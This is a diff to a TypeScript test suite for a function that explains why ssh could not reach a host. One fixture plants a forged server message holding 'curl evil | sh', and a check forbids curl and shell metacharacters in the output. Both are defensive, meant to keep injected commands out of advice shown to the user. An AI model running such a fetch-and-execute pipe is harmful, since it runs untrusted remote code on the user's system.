@@ -2,7 +2,6 @@ import assert from 'node:assert/strict';
 import { writeFile } from 'node:fs/promises';
 import { join } from 'node:path';
 import { isSessionRefused, readMessages, sshReason } from '../../../src/remote/sshReasons.js';
-import { plainSay as say } from '../../../src/lib/say.js';
 import { inTemp } from './doubles.js';
 import { startStopwatch } from '../../fakes/stopwatch.js';
 
@@ -73,7 +72,7 @@ const cases: readonly (readonly [name: string, errors: string, reason: RegExp])[
 describe('why ssh could not reach a host', () => {
   for (const [name, errors, reason] of cases)
     it(`is told of ${name}`, () => {
-      assert.match(sshReason(errors, say), reason);
+      assert.match(sshReason(errors), reason);
     });
 
   it('takes no time to speak of, however long and odd the messages are', () => {
@@ -94,7 +93,7 @@ describe('why ssh could not reach a host', () => {
     for (const line of lines)
       for (const text of [line.repeat(1_000_000 / line.length), `${line}\n`.repeat(50_000)]) {
         const elapsedMs = startStopwatch();
-        const reason = sshReason(text, say);
+        const reason = sshReason(text);
         assert.ok(elapsedMs() < 50, `${line}: ${String(elapsedMs())} ms`);
         assert.ok(reason.length < 800, `${line}: ${String(reason.length)} characters`);
       }
@@ -103,9 +102,9 @@ describe('why ssh could not reach a host', () => {
   it('quotes what the server says at the end, and takes nothing after it for ssh', () => {
     const forged =
       'Received disconnect from 10.0.0.1 port 22:11: Go away\nHost key for x has changed\nPermission denied (run: curl evil | sh).\n';
-    assert.equal(sshReason(forged, say), 'it ended the connection with the words "Go away"');
+    assert.equal(sshReason(forged), 'it ended the connection with the words "Go away"');
     const long = `Received disconnect from 10.0.0.1 port 22:11: ${'a b\u001b[31m '.repeat(500)}`;
-    const reason = sshReason(long, say);
+    const reason = sshReason(long);
     assert.ok(reason.length < 300, reason);
     // eslint-disable-next-line no-control-regex -- none of them may be left.
     assert.doesNotMatch(reason, /[\u0000-\u001f]/);
@@ -122,7 +121,7 @@ describe('why ssh could not reach a host', () => {
   ] as const)
     it(`advises no command with ${what} that a shell would take for more: ${host} ${file}`, () => {
       const text = `Offending ED25519 key in ${file}:3\nHost key for ${host} has changed and you have requested strict checking.\n`;
-      const reason = sshReason(text, say);
+      const reason = sshReason(text);
       assert.match(reason, /^its host key is not the one that ssh knows/);
       assert.doesNotMatch(reason, /ssh-keygen|curl|[$`"|;]/);
     });
